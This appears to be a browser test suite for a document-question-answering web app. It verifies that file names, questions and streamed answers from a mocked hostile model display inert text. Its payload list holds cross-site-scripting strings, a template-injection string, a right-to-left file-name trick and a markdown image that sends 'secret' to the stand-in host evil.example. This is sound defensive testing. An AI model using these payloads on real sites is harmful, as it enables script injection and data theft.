"""File names, documents and answers full of markup, scripts and odd signs are shown as the letters that they are."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import Page, Route, expect

from tests.browser.conftest import Watched

pytestmark = pytest.mark.browser
Watch = Callable[..., Watched]

PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '"><iframe src="javascript:alert(1)">',
    "![leak](http://evil.example/?q=secret)",
    "[click](javascript:alert(1))",
    "<a href='http://evil.example'>here</a>",
    "http://evil.example/beacon.png",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "{{constructor.constructor('alert(1)')()}}",
    "<base href=http://evil.example/>",
    "\u202egnp.exe\u202c",
    "**bold** `code` *it* [1] [99]",
)
MARKUP = "script[src*=evil], iframe, img, a[href]:not(.skip), base, style, object, embed, form[action], meta[http-equiv]"


WHEN = "2026-01-01T00:00:00Z"


def nothing_was_made_of_it(page: Page) -> None:
    assert page.locator(f"body :is({MARKUP})").count() == 0
    assert page.evaluate("document.querySelectorAll('body script').length") == 0


def test_hostile_names_and_documents_are_inert_everywhere(watch: Watch) -> None:
    watched = watch()
    page = watched.open()
    page.click("#new-collection")
    page.fill("dialog input", "<img src=x onerror=alert(1)>")
    page.press("dialog input", "Enter")
    expect(page.locator("#collection-name")).to_have_text("<img src=x onerror=alert(1)>")
    text = "\n\n".join(f"The marigold depot holds {number} blankets {payload} in all." for number, payload in enumerate(PAYLOADS, 300))
    names = [payload.replace("/", "∕") + ".txt" for payload in PAYLOADS]
    watched.drop({name: f"{text}\n\n{index}".encode() for index, name in enumerate(names)})
    expect(page.locator("#progress")).to_contain_text("documents read", timeout=60_000)
    nothing_was_made_of_it(page)
    page.fill("#question", "How many blankets does the marigold depot hold? <img src=x onerror=alert(1)>")
    page.press("#question", "Enter")
    page.wait_for_selector(".turn .foot-row", timeout=60_000)
    nothing_was_made_of_it(page)
    page.locator(".card").first.click()
    expect(page.locator(".sheet")).to_contain_text("<script>alert(1)</script>")
    nothing_was_made_of_it(page)
    page.keyboard.press("Escape")
    page.click("#show-documents")
    expect(page.locator(".ledger .name").first).to_be_visible()
    assert any("\\u202e" in name for name in page.locator(".ledger .name").all_inner_texts()), "what turns letters round is spelled out"
    nothing_was_made_of_it(page)


def evidence(text: str) -> dict[str, Any]:
    place = {"document_id": 1, "document": text, "page": 1, "position": 0, "start": 0, "end": 3}
    return {**place, "text": text, "score": 1.0, "heading": [text], "title": text, "chunk_ids": [1]}


def answer(text: str) -> dict[str, Any]:
    place = {"document_id": 1, "document": text, "page": 1, "position": 0, "start": 0, "end": 3}
    return {
        "question": text,
        "searched_for": text + "!",
        "answer": f"“{text}” [1]\n\n{text} [1]\n\n- {text}\n# {text}",
        "generated": text,
        "refused": False,
        "sentences": [{"text": text, "markers": [1], "supported": False, "missing": [text]}],
        "citations": [{**place, "marker": 1, "quote": text, "supported": True}],
        "evidence": [evidence(text)],
        "model": text,
        "timings": {"retrieve": 1.0, "first_token": 1.0, "total": 2.0},
        "stopped": False,
        "note": text,
    }


def stream(text: str) -> str:
    """The worst model: everything that it can send is hostile."""
    whole = answer(text)
    told: list[tuple[str, Any]] = [
        ("started", {"key": text}),
        ("queued", {"ahead": 1}),
        ("evidence_ready", {"evidence": [evidence(text)], "searched_for": text + "!", "nearest": False, "milliseconds": 1.0}),
        ("quotes_ready", {"citations": whole["citations"]}),
        ("progress", {"phase": text, "done": 1, "total": 2, "seconds_left": 3.0}),
        *(("delta", {"text": letter}) for letter in text),
        ("sentence_checked", {"sentence": whole["sentences"][0], "citations": []}),
        (
            "kept",
            {
                "answer": whole,
                "conversation": {"id": 1, "collection_id": 1, "title": text, "created": "2026-01-01T00:00:00Z", "updated": "2026-01-01T00:00:00Z"},
            },
        ),
    ]
    return "".join(f"event: {name}\ndata: {json.dumps(value)}\n\n" for name, value in told)


def test_a_hostile_model_is_inert_while_it_streams_and_in_history(watch: Watch) -> None:
    watched = watch()
    page = watched.open()
    current = {"text": ""}

    def streamed(route: Route) -> None:
        route.fulfill(status=200, content_type="text/event-stream", body=stream(current["text"]))

    page.route("**/api/collections/*/ask", streamed)
    for payload in PAYLOADS:
        current["text"] = payload
        before = page.locator(".turn .foot-row").count()
        page.fill("#question", payload)
        page.press("#question", "Enter")
        expect(page.locator(".turn .foot-row")).to_have_count(before + 1)
        nothing_was_made_of_it(page)
        shown = page.locator(".turn").last
        assert shown.locator(".prose .flag").count() >= 1
        for part in (".asked h2", ".quotes .quote p", ".card-text"):
            assert payload.strip("\u202e\u202c") in shown.locator(part).first.inner_text().replace("\u202e", "").replace("\u202c", "")
    page.unroute("**/api/collections/*/ask")
